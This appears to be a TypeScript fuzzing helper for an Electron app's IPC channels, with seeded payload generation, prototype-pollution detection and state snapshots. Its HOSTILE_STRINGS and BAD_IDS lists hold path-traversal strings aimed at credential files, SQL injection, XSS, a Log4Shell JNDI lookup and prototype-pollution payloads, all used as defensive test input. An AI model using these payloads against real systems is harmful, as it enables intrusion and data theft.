import { createHash } from 'node:crypto';
import { lstatSync, readdirSync, readFileSync } from 'node:fs';
import { join, relative, sep } from 'node:path';
import type { z } from 'zod';
import type { Db } from '../../electron/store/database';

// A small, deterministic fuzzer for the contract's channels. Every payload is derived from a seeded PRNG,
// so a failure names a seed and a case number that reproduce it exactly (DCB_FUZZ_SEED, DCB_FUZZ_RUNS).

export const POLLUTION_MARKER = 'dcbPolluted';

/** mulberry32: tiny, fast and good enough to drive test-case choice. */
export function createRng(seed: number) {
  let a = seed >>> 0;
  const next = () => {
    a = (a + 0x6d2b79f5) >>> 0;
    let t = a;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
  return {
    next,
    int: (max: number) => Math.floor(next() * max),
    pick: <T>(items: readonly T[]): T => items[Math.floor(next() * items.length)]!,
    chance: (p: number) => next() < p,
  };
}
export type Rng = ReturnType<typeof createRng>;

const HUGE = 'A'.repeat(1024 * 1024);

// Strings that have broken real programs: traversal in every spelling, NUL and control characters, URL
// schemes, injection payloads, Unicode that changes meaning when normalised, and sheer size.
export const HOSTILE_STRINGS: readonly string[] = [
  '',
  ' ',
  '../../../../etc/passwd',
  '..\\..\\..\\Windows\\win.ini',
  '/etc/shadow',
  'C:\\Windows\\System32\\config\\SAM',
  '\\\\attacker\\share\\file',
  '%2e%2e%2f%2e%2e%2fworkspace.sqlite',
  '..%c0%af..%c0%afetc',
  'evidence/../../secrets/token.bin',
  'file:///etc/passwd',
  'javascript:alert(1)',
  'https://user:pass@evil.example/',
  'a\u0000b',
  '\u0000',
  'line\r\nInjected: header',
  "'; DROP TABLE clients; --",
  '" OR 1=1 --',
  '<script>alert(1)</script>',
  '${jndi:ldap://evil/a}',
  '{{constructor.constructor("return process")()}}',
  '__proto__',
  'constructor',
  'prototype',
  '\u202eexe.pdf',
  'ＡＢＣ１２３',
  '\ud800',
  '😀'.repeat(300),
  'x'.repeat(10_000),
  HUGE,
];

const BAD_IDS: readonly string[] = [
  'not-a-uuid',
  '00000000-0000-0000-0000-00000000000',
  '00000000-0000-4000-8000-000000000000 ',
  '00000000-0000-4000-8000-000000000000\n',
  '../00000000-0000-4000-8000-000000000000',
  '00000000-0000-4000-8000-000000000000/../../x',
  '{00000000-0000-4000-8000-000000000000}',
  '%',
  '*',
  "1' OR '1'='1",
];

function deep(depth: number, leaf: unknown, asArray: boolean): unknown {
  let v = leaf;
  for (let i = 0; i < depth; i++) v = asArray ? [v] : { a: v };
  return v;
}

function pollution(rng: Rng): unknown {
  const payloads = [
    `{"__proto__":{"${POLLUTION_MARKER}":true}}`,
    `{"constructor":{"prototype":{"${POLLUTION_MARKER}":true}}}`,
    `{"prototype":{"${POLLUTION_MARKER}":true}}`,
    `{"a":{"__proto__":{"${POLLUTION_MARKER}":true}}}`,
    `[{"__proto__":{"${POLLUTION_MARKER}":true}}]`,
  ];
  return JSON.parse(rng.pick(payloads));
}

// Each payload is bounded by work, not by the clock: nested arrays multiply (600 elements × 60 × 20,000 made
// payloads of hundreds of megabytes whose generation and cloning took minutes on a loaded 2-core machine),
// so one payload may hold at most this many values and this many characters of string data. A case is then
// equally hostile (huge strings, long arrays, deep nesting all still occur) and costs about the same anywhere.
export const PAYLOAD_MAX_VALUES = 25_000;
export const PAYLOAD_MAX_CHARS = 3 * 1024 * 1024;

interface Budget {
  values: number;
  chars: number;
}
const newBudget = (): Budget => ({ values: PAYLOAD_MAX_VALUES, chars: PAYLOAD_MAX_CHARS });

/** How many elements an array may get from what is left of the budget (each element costs one value). */
function lengthWithin(budget: Budget, wanted: number): number {
  const n = Math.max(0, Math.min(wanted, budget.values));
  budget.values -= n;
  return n;
}

function stringWithin(budget: Budget, s: string): string {
  if (s.length > budget.chars) return '';
  budget.chars -= s.length;
  return s;
}

/** A value with no regard to any schema: wrong types, extremes, odd objects, pollution attempts. */
function hostileAtom(rng: Rng, ids: readonly string[], budget: Budget = newBudget()): unknown {
  budget.values--;
  switch (rng.int(24)) {
    case 0:
      return null;
    case 1:
      return undefined;
    case 2:
      return rng.pick([NaN, Infinity, -Infinity, -0, Number.MAX_VALUE, Number.MIN_VALUE, 2 ** 53 + 1, -1, 0, 1.5]);
    case 3:
      return rng.pick([true, false]);
    case 4:
    case 5:
    case 6:
      return stringWithin(budget, rng.pick(HOSTILE_STRINGS));
    case 7:
      return rng.pick(BAD_IDS);
    case 8:
      return ids.length ? rng.pick(ids) : rng.pick(BAD_IDS);
    case 9:
      return [];
    case 10:
      return Array.from({ length: lengthWithin(budget, rng.pick([3, 1000, 20_000])) }, () => rng.pick(HOSTILE_STRINGS.slice(0, 10)));
    case 11:
      return {};
    case 12:
      // Deeper than ~1800 levels cannot cross IPC at all (structured clone overflows in the renderer).
      return deep(lengthWithin(budget, rng.pick([50, 1000, 1500])), rng.pick(HOSTILE_STRINGS.slice(0, 5)), rng.chance(0.5));
    case 13:
      return pollution(rng);
    case 14:
      return new Date(rng.pick([0, 8.64e15, -8.64e15]));
    case 15:
      return new Map([['id', ids[0] ?? 'x']]);
    case 16:
      return new Set([1, 2, 3]);
    case 17:
      return 2n ** 70n;
    case 18:
      return new Uint8Array(rng.pick([0, 16, 65536]));
    case 19:
      return /.*/g;
    case 20: {
      const sparse: unknown[] = [];
      sparse[rng.pick([5, 10_000])] = 'x';
      return sparse;
    }
    case 21:
      return { length: 2, 0: 'a', 1: 'b' };
    case 22:
      return String(rng.next());
    default:
      return rng.pick([[null], [{}], [[]], ['__proto__']]);
  }
}

// Zod v4 keeps a schema's structure in `_zod.def`; we read just enough of it to build payloads that have the
// right outer shape and a hostile value somewhere inside, so validation has to look past the first key.
type Def = { type: string; shape?: Record<string, Schema>; element?: Schema; innerType?: Schema; in?: Schema; options?: Schema[] };
type Schema = { _zod?: { def: Def } };

function unwrap(schema: Schema): Schema {
  let s = schema;
  for (let i = 0; i < 20; i++) {
    const def = s._zod?.def;
    if (!def) return s;
    if (['optional', 'nullable', 'default', 'prefault', 'readonly', 'catch', 'nonoptional'].includes(def.type) && def.innerType)
      s = def.innerType;
    else if (def.type === 'pipe' && def.in) s = def.in;
    else return s;
  }
  return s;
}

/** A payload shaped like `schema` with hostile values at the leaves (and sometimes in place of a branch). */
function shaped(schema: z.ZodType | Schema, rng: Rng, ids: readonly string[], depth = 0, budget: Budget = newBudget()): unknown {
  const s = unwrap(schema as Schema);
  const def = s._zod?.def;
  if (!def || depth > 6 || budget.values <= 0 || rng.chance(0.2)) return hostileAtom(rng, ids, budget);
  if (def.type === 'object' && def.shape) {
    const out: Record<string, unknown> = {};
    for (const [key, child] of Object.entries(def.shape)) {
      if (rng.chance(0.15)) continue;
      out[key] = /id$/i.test(key) && rng.chance(0.5) ? rng.pick([...ids, ...BAD_IDS]) : shaped(child, rng, ids, depth + 1, budget);
    }
    if (rng.chance(0.2))
      out[rng.pick(['__proto__', 'constructor', 'prototype', 'extra', HOSTILE_STRINGS[2]!])] = hostileAtom(rng, ids, budget);
    return out;
  }
  if (def.type === 'array' && def.element) {
    const length = Math.min(rng.pick([0, 1, 2, 3, 60, 600]), Math.max(0, budget.values));
    return Array.from({ length }, () => shaped(def.element!, rng, ids, depth + 1, budget));
  }
  if (def.type === 'union' && def.options?.length) return shaped(rng.pick(def.options), rng, ids, depth + 1, budget);
  return hostileAtom(rng, ids, budget);
}

/** The next payload for a channel: shaped most of the time, otherwise a bare hostile value or a wrapper. */
export function payloadFor(schema: z.ZodType, rng: Rng, ids: readonly string[]): unknown {
  const budget = newBudget();
  const roll = rng.int(10);
  if (roll < 6) return shaped(schema, rng, ids, 0, budget);
  if (roll === 6) return [shaped(schema, rng, ids, 0, budget)];
  if (roll === 7) return { input: shaped(schema, rng, ids, 0, budget) };
  if (roll === 8) {
    // An own "__proto__" key next to the real ones (what JSON.parse or structured clone can deliver).
    const base = shaped(schema, rng, ids, 0, budget);
    const out = JSON.parse(`{"__proto__":{"${POLLUTION_MARKER}":true}}`) as Record<string, unknown>;
    if (base && typeof base === 'object' && !Array.isArray(base) && !ArrayBuffer.isView(base)) {
      for (const [k, v] of Object.entries(base)) if (k !== '__proto__') out[k] = v;
    }
    return out;
  }
  return hostileAtom(rng, ids, budget);
}

/** Own property names of the built-in prototypes: compare before and after to detect pollution. */
export function prototypeFingerprint(): string {
  const protos: object[] = [Object.prototype, Array.prototype, Function.prototype, String.prototype, Number.prototype];
  const marker = [{}, [], () => {}, Object(''), Object(0)].some((p) => POLLUTION_MARKER in p);
  return `${marker ? 'POLLUTED ' : ''}${protos.map((p) => Object.getOwnPropertyNames(p).sort().join(',')).join('|')}`;
}

/**
 * What "state" means for the no-change check: every row of every table (order-independent) and every file
 * under the data directory with its size and content hash. The log and the database's own files are left
 * out of the file list (the rows cover the database; a log line is not state).
 */
export function stateSnapshot(db: Db, dataDir: string): { tables: Record<string, string>; files: string[] } {
  const tables: Record<string, string> = {};
  const names = db
    .prepare("SELECT name FROM sqlite_schema WHERE type = 'table' AND name NOT LIKE 'sqlite_%' ORDER BY name")
    .pluck()
    .all() as string[];
  for (const name of names) {
    const rows = (
      db
        .prepare(`SELECT * FROM "${name.replace(/"/g, '""')}"`)
        .raw()
        .all() as unknown[][]
    ).map((r) => JSON.stringify(r, (_k, v: unknown) => (typeof v === 'bigint' ? v.toString() : v)));
    tables[name] = createHash('sha256').update(rows.sort().join('\n')).digest('hex') + `:${rows.length}`;
  }
  const files: string[] = [];
  const walk = (dir: string) => {
    for (const entry of readdirSync(dir)) {
      const path = join(dir, entry);
      const rel = relative(dataDir, path).split(sep).join('/');
      if (rel === 'logs' || rel.startsWith('workspace.sqlite')) continue;
      const st = lstatSync(path);
      if (st.isDirectory()) walk(path);
      else files.push(`${rel}:${st.size}:${createHash('sha256').update(readFileSync(path)).digest('hex').slice(0, 16)}`);
    }
  };
  walk(dataDir);
  return { tables, files: files.sort() };
}

/**
 * A short, printable description of a payload for failure messages: JSON-like, cut at 300 characters.
 * It stops walking as soon as it has enough text, so describing a 25,000-value payload costs the same as
 * describing a small one (JSON.stringify walked the whole payload first, twice per case, and that was most
 * of the fuzz suite's time).
 */
export function describePayload(value: unknown): string {
  const LIMIT = 300;
  let out = '';
  const seen = new Set<object>();
  const emit = (text: string) => {
    out += text;
    return out.length > LIMIT;
  };
  const walk = (v: unknown): boolean => {
    if (typeof v === 'bigint') return emit(`"${v}n"`);
    if (typeof v === 'string') return emit(JSON.stringify(v.length > 60 ? `${v.slice(0, 40)}…(${v.length})` : v));
    if (typeof v === 'number') return emit(Number.isFinite(v) ? String(v) : 'null');
    if (typeof v === 'boolean' || v === null) return emit(String(v));
    if (v === undefined || typeof v === 'function' || typeof v === 'symbol') return emit(v === undefined ? 'undefined' : typeof v);
    const obj = v as object;
    if (seen.has(obj)) return emit('"[circular]"');
    seen.add(obj);
    if (ArrayBuffer.isView(obj)) return emit(`${Object.prototype.toString.call(obj)}(${(obj as ArrayBufferView).byteLength})`);
    if (obj instanceof Date) return emit(Number.isNaN(obj.getTime()) ? '"Invalid Date"' : JSON.stringify(obj.toISOString()));
    if (obj instanceof Map || obj instanceof Set || obj instanceof RegExp) return emit(Object.prototype.toString.call(obj));
    if (Array.isArray(obj)) {
      if (emit('[')) return true;
      for (let i = 0; i < obj.length; i++) if ((i > 0 && emit(',')) || walk(obj[i])) return true;
      return emit(']');
    }
    if (emit('{')) return true;
    let first = true;
    for (const key of Object.keys(obj)) {
      if ((!first && emit(',')) || emit(`${JSON.stringify(key)}:`)) return true;
      first = false;
      if (walk((obj as Record<string, unknown>)[key])) return true;
    }
    return emit('}');
  };
  try {
    walk(value);
  } catch {
    out = Object.prototype.toString.call(value);
  }
  return out.length > LIMIT ? `${out.slice(0, LIMIT)}…` : out;
}
